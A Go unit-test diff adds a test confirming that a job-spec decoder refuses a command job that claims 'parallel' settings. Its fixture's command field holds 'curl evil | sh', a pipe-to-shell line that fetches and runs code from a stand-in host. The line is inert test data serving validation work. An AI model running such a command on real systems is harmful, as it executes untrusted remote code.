@@ -184,3 +184,12 @@ func TestCheckComponentRefusals(t *testing.T) {
 		t.Error("a nil component is not refused")
 	}
 }
+
+// A job document cannot make itself parallel: the settings come only
+// from a pipeline's parallel step or a batch endpoint's invoke (which
+// build the driver's command), so a command job written with them is
+// refused as Azure refuses the key.
+func TestCommandJobCannotClaimParallel(t *testing.T) {
+	_, err := job.DecodeJobSpec([]byte(`{"command":"curl evil | sh","compute":"cpu","parallel":{"input_data":"${{inputs.d}}","entry_script":"s.py"}}`))
+	coretest.WantFieldError(t, err, "parallel", "unknown key")
+}
